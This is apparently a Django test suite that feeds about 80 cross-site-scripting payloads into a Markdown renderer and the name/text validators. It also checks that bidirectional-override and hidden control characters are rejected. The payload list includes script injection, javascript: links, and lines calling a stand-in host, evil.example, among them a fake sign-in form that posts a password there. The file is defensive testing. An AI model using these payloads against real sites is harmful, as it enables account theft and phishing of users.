"""What people type into a story, an update or a name, by those who mean harm. None of it becomes more than words."""

import unicodedata
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.core.exceptions import ValidationError
from django.template import Context, Template

from delegation.forms.words import clean_line, clean_text
from delegation.rich_text import TAGS, render_markdown

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    '<img src="x" onerror="alert(1)" />',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<div style=position:fixed;inset:0>over everything</div>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a onclick=alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\\\nscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x/1)",
    '[x](https://example.org "onmouseover=alert(1)")',
    "[x](https://example.org'onmouseover='alert(1))",
    '[x](https://example.org"onmouseover="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "![x][1]\n\n[1]: https://evil.example/pixel.gif",
    "[![x](https://evil.example/pixel.gif)](https://example.org)",
    "<javascript:alert(1)>",
    "<https://example.org/<script>alert(1)</script>>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "x\x00<script>alert(1)</script>",
)


class Seen(HTMLParser):
    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes = set(), []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        raise AssertionError("a comment came through")

    def handle_pi(self, data):
        raise AssertionError("a processing instruction came through")


def test_the_corpus_is_long_enough():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_story_cannot_harm_its_reader(payload):
    for text in (payload, f"words before\n\n{payload}\n\nwords after", f"in *the {payload} middle*"):
        seen = Seen(render_markdown(text))
        assert seen.tags <= TAGS
        for name, value in seen.attributes:
            assert name in {"href", "title", "rel"}
            if name == "href":
                assert urlsplit(value).scheme in {"https", "http", "mailto", ""}, value


def test_a_link_that_is_one_stays_one():
    seen = Seen(render_markdown("[our report](https://example.org/a?b=1&c=2) and <mail@example.org>"))
    assert ("href", "https://example.org/a?b=1&c=2") in seen.attributes
    assert ("href", "mailto:mail@example.org") in seen.attributes


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_name_or_a_title_is_never_markup(payload):
    drawn = Template('<b title="{{ name }}">{{ name }}</b>').render(Context({"name": payload}))
    assert Seen(drawn).tags == {"b"}
    assert {name for name, _value in Seen(drawn).attributes} == {"title"}


TURNING = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]
HIDING = ["\x00", "\x07", "\x08", "\x1b", "\x7f", "\x85", "\ue000", "\U000f0000", "\ufdd0"]


@pytest.mark.parametrize("char", [*TURNING, *HIDING, "\u200e", "\u200f", "\u061c"])
def test_a_name_holds_nothing_that_turns_or_hides(char):
    with pytest.raises(ValidationError):
        clean_line(f"Ana{char}gnp.exe")


@pytest.mark.parametrize("char", [*TURNING, *HIDING])
def test_a_text_holds_nothing_that_turns_without_end_or_hides(char):
    with pytest.raises(ValidationError):
        clean_text(f"My story\n{char}goes on")


@pytest.mark.parametrize(
    "name",
    [
        "Ana", "Zoë Ångström", "Nguyễn Thị Minh", "Łukasz", "Þóra", "Ñandú", "Kahu‘āina", "O’Neil", "Jean-Luc",
        "Αθηνά", "Ольга", "Նարե", "שרה", "فاطمة", "فارسی‌زبان", "अनीता", "অনীতা", "ਅਨੀਤਾ", "અનિતા", "அனிதா", "అనిత",
        "ಅನಿತಾ", "അനിത", "අනිතා", "อนิตา", "ອານິຕາ", "အနိတာ", "អនីតា", "བསྟན་འཛིན", "Ənən", "አኒታ", "ანი", "김하나",
        "花子", "小明", "ꦲꦤꦶ",
        "क्‍ष",
    ],
)  # fmt: skip
def test_people_are_called_what_they_are_called(name):
    assert clean_line(name) == unicodedata.normalize("NFC", name)
    assert clean_text(f"{name}\n\u200f{name}\t.") == unicodedata.normalize("NFC", f"{name}\n\u200f{name}\t.")
